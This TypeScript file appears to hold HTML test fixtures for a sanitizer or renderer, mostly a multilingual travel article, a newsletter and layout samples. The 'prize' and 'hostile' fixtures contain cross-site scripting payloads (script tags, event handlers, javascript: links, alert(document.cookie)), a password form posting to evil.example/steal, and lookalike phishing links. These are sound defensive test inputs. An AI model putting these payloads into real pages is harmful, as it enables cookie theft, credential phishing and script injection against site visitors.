/** Article by a trusted author, with every element that the policy allows. */
export const article = `
<h1>Packing for a week on the Douro</h1>
<p>A light bag makes for a <em>passeio</em>, a stroll without a plan. Lay everything out first, then put back
<strong>a third of it</strong>, and keep the bag under 8&nbsp;kg.<sup>1</sup></p>
<h2 id="bag">In the bag</h2>
<ul>
  <li>Walking shoes, for the vineyards</li>
  <li>Rain jacket, for Porto
    <ul><li>keep it on top</li></ul>
  </li>
  <li>A bottle for <code>0.5 l</code> of water</li>
</ul>
<blockquote cite="https://example.org/guesthouse"><p>Bring half the clothes and twice the time.</p></blockquote>
<h2>The evening before</h2>
<ol>
  <li>Charge the phone.</li>
  <li>Pack what fits in <time datetime="PT20M">twenty minutes</time>.</li>
  <li>Press <kbd>Save</kbd> on each ticket, for trips without a signal.</li>
</ol>
<pre><code class="language-ini">[bag]
shirts = 3
books = 1</code></pre>
<table>
  <caption>Weights</caption>
  <thead><tr><th scope="col">Item</th><th scope="col" align="right">Grams</th></tr></thead>
  <tbody><tr><td>Shoes</td><td align="right">900</td></tr><tr><td>Jacket</td><td align="right">350</td></tr></tbody>
</table>
<details open><summary>Why so light?</summary><p>The streets are steep, and the house is at the top.</p></details>
<hr>
<p><small>1 See <a href="#bag">the list</a> and <a href="https://example.org/luggage">the rules of the train</a>.</small></p>`;

/** The same in Arabic. */
export const arabicArticle = `
<h1>حقيبة لأسبوع على نهر دورو</h1>
<p>الحقيبة الخفيفة تمنحك <em>نزهة بلا خطة</em>. ضع كل شيء أمامك أولًا، ثم أعد
<strong>ثلثه إلى الخزانة</strong>، واجعل الحقيبة أخف من 8&nbsp;كغ.<sup>1</sup></p>
<h2 id="bag">في الحقيبة</h2>
<ul>
  <li>حذاء للمشي بين الكروم</li>
  <li>سترة مطر لبورتو
    <ul><li>ضعها في الأعلى</li></ul>
  </li>
  <li>قارورة ماء <code>0.5 l</code></li>
</ul>
<blockquote cite="https://example.org/guesthouse"><p>خذ نصف الملابس وضعف الوقت.</p></blockquote>
<h2>في المساء السابق</h2>
<ol>
  <li>اشحن الهاتف.</li>
  <li>احزم ما يسعه الوقت في <time datetime="PT20M">عشرين دقيقة</time>.</li>
  <li>اضغط <kbd>حفظ</kbd> على كل تذكرة، لرحلات بلا شبكة.</li>
</ol>
<pre><code class="language-ini">[bag]
shirts = 3
books = 1</code></pre>
<table>
  <caption>الأوزان</caption>
  <thead><tr><th scope="col">الغرض</th><th scope="col" align="left">غرام</th></tr></thead>
  <tbody><tr><td>الحذاء</td><td align="left">900</td></tr><tr><td>السترة</td><td align="left">350</td></tr></tbody>
</table>
<details open><summary>لماذا بهذه الخفة؟</summary><p>الشوارع شديدة الانحدار، والبيت في الأعلى.</p></details>
<hr>
<p><small>1 انظر <a href="#bag">القائمة</a> و<a href="https://example.org/luggage">قواعد القطار</a>.</small></p>`;

/** The same in German. */
export const germanArticle = `
<h1>Packen für eine Woche am Douro</h1>
<p>Mit leichtem Gepäck wird jeder Weg zum <em>Passeio</em>, einem Bummel ohne Plan. Legen Sie zuerst alles aus, lassen Sie dann
<strong>ein Drittel zu Hause</strong> und bleiben Sie unter 8&nbsp;kg.<sup>1</sup></p>
<h2 id="bag">In der Tasche</h2>
<ul>
  <li>Wanderschuhe für die Weinberge</li>
  <li>Regenjacke für Porto
    <ul><li>griffbereit obenauf</li></ul>
  </li>
  <li>Flasche für <code>0.5 l</code> Wasser</li>
</ul>
<blockquote cite="https://example.org/guesthouse"><p>Halb so viel Kleidung und doppelt so viel Zeit.</p></blockquote>
<h2>Am Abend davor</h2>
<ol>
  <li>Das Telefon laden.</li>
  <li>Packen, was in <time datetime="PT20M">zwanzig Minuten</time> hineinpasst.</li>
  <li>Bei jeder Fahrkarte <kbd>Speichern</kbd> drücken, für Strecken ohne Netz.</li>
</ol>
<pre><code class="language-ini">[bag]
shirts = 3
books = 1</code></pre>
<table>
  <caption>Gewichte</caption>
  <thead><tr><th scope="col">Gegenstand</th><th scope="col" align="right">Gramm</th></tr></thead>
  <tbody><tr><td>Schuhe</td><td align="right">900</td></tr><tr><td>Jacke</td><td align="right">350</td></tr></tbody>
</table>
<details open><summary>Warum so leicht?</summary><p>Die Straßen sind steil, und das Haus steht ganz oben.</p></details>
<hr>
<p><small>1 Siehe <a href="#bag">die Liste</a> und die <a href="https://example.org/luggage">Regeln der Bahn</a>.</small></p>`;

/** A whole book of articles. */
export const long = article.repeat(30);

/** Comment by a stranger. */
export const comment = `<p>Great guide! <mark>Book early</mark> in summer; the rest is in <a href="https://example.org/tips">my notes</a>.</p>
<ul><li>By train: half an hour</li><li>By boat: <s>three</s> two hours</li></ul>
<p>Ask <b>@mia</b> for the key. The code of the gate is <code>4829#</code>.</p>`;

/** Newsletter, as written by an email program. */
export const newsletter = `
<table width="100%" cellpadding="0" cellspacing="0" bgcolor="#f3f0ea"><tr><td align="center">
<table width="480" cellpadding="16" cellspacing="0" bgcolor="#ffffff">
<tr><td><img src="https://images.example.com/header.png" alt="Pensão Aurora, spring letter" width="448" height="96"></td></tr>
<tr><td style="color: #333333; line-height: 24px">
<h2 style="color: #8a3324; font-size: 22px">Spring on the Douro</h2>
<p>Dear guest, the terrace is open again. <font color="#8a3324"><b>River rooms</b></font> for April and May can be booked from Monday.</p>
<p><a href="https://example.com/rooms">See the rooms</a></p></td></tr>
<tr><td style="background-image: url('https://images.example.com/sand.png'); font-size: 12px; color: #666666">You are receiving this newsletter because you subscribed.
<img src="https://track.example.net/open.gif?u=77" width="1" height="1" alt=""></td></tr>
</table></td></tr></table>`;

/** Text with images from other sites. */
export const withPictures = `<p>Two pictures from the trip:</p>
<p><img src="https://images.example.com/bridge.jpg" alt="Iron bridge over the river, with a tram on its upper deck" width="320" height="180">
<img src="https://images.example.com/terrace.jpg" alt="Terrace at dusk" width="200" height="180"></p>
<p>The second one was taken after the last guests had left.</p>`;

/** Returns a comment by a swindler, with six parts that are removed: its heading, and two links between words. */
function prizeIn([heading, before, here, or, signIn]: readonly string[]): string {
  return `<h2 onclick="steal()">${heading}</h2>
<script>steal()</script>
<p style="position: fixed; inset: 0">${before} <a href="javascript:steal()">${here}</a>
${or} <a href="https://xn--pple-43d.example/login">${signIn}</a>.</p>
<iframe src="https://evil.example/"></iframe>
<img src="https://evil.example/pixel.gif" alt="" width="1" height="1">`;
}

/** Comment by a swindler. */
export const prize = prizeIn(['You have won!', 'Get your trip', 'here', 'or', 'sign in']);

/** The same in Arabic. */
export const arabicPrize = prizeIn(['لقد ربحت!', 'احصل على رحلتك', 'من هنا', 'أو', 'سجّل الدخول']);

/** The same in German. */
export const germanPrize = prizeIn([
  'Sie haben gewonnen!',
  'Ihre Reise gibt es',
  'hier',
  'oder beim',
  'Anmelden',
]);

/** HTML with attacks. */
export const hostile = `<h2 onclick="alert(1)">You have won!</h2>
<script>alert(document.cookie)</script>
<p style="position:fixed;inset:0;background:url(https://evil.example/x)">Click <a href="javascript:alert(1)">here</a>
or <a href="https://xn--pple-43d.example/login">sign in</a>.</p>
<form action="https://evil.example/steal"><label>Password <input type="password" name="p"></label><button>Send</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="alert(1)"><text>Hello</text></svg>
<img src="https://evil.example/pixel.gif" alt="" width="1" height="1" onerror="alert(1)">
<custom-card>Only its words stay.</custom-card>`;

/** Links to this page, to other sites, and to hosts that differ from the link text. */
export const links = `<ul>
<li><a href="#here">How to find us</a>, further down</li>
<li><a href="/basket">Your bookings</a> on this site</li>
<li><a href="https://example.org/guide">A guide to Porto</a> on another site</li>
<li><a href="https://аррӏе.example/">аррӏе.example</a>, spelled with Cyrillic letters</li>
<li><a href="https://guesthouse-login.example/">guesthouse.example/login</a>, which leads elsewhere</li>
<li><a href="mailto:mia@example.com">Mia</a> and <a href="tel:+4930123456">her telephone</a></li>
</ul>`;

/** Table and code that are wider than a phone. */
export const wide = `<table><thead><tr>${[
  'Room',
  'Booked',
  'Arrival',
  'Departure',
  'Price per night',
  'Remarks',
]
  .map((name) => `<th scope="col">${name}</th>`)
  .join('')}</tr></thead><tbody>${['Garden room', 'River room']
  .map(
    (room) =>
      `<tr><th scope="row">${room}</th><td>2026-03-08</td><td>2026-04-17</td><td>2026-04-24</td><td>€124</td><td>Quiet</td></tr>`,
  )
  .join('')}</tbody></table>
<pre><code>book --room garden --from 2026-04-17 --to 2026-04-24 --guests 2 --breakfast yes --ticket /trips/porto/garden.pdf</code></pre>
<p>The train stops in Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogoch:
https://example.org/timetable/london-euston/llanfairpwll/2026-04-17/outbound/standard-class</p>`;

/** Blocks of text in left-to-right and right-to-left languages. */
export const directions = `<h2>أهلاً بكم في بيتنا</h2>
<p>الإفطار من الثامنة، و<a href="https://example.org/ar">القارب</a> في العاشرة.</p>
<p lang="en">Breakfast is from eight, and the boat leaves at ten.</p>
<ul><li>مفتاح الحديقة</li><li>Garden key</li></ul>
<blockquote><p>إقامة سعيدة</p></blockquote>
<p lang="ja">朝食は八時から、<ruby>川船<rp>(</rp><rt>かわぶね</rt><rp>)</rp></ruby>は十時に出ます。</p>`;
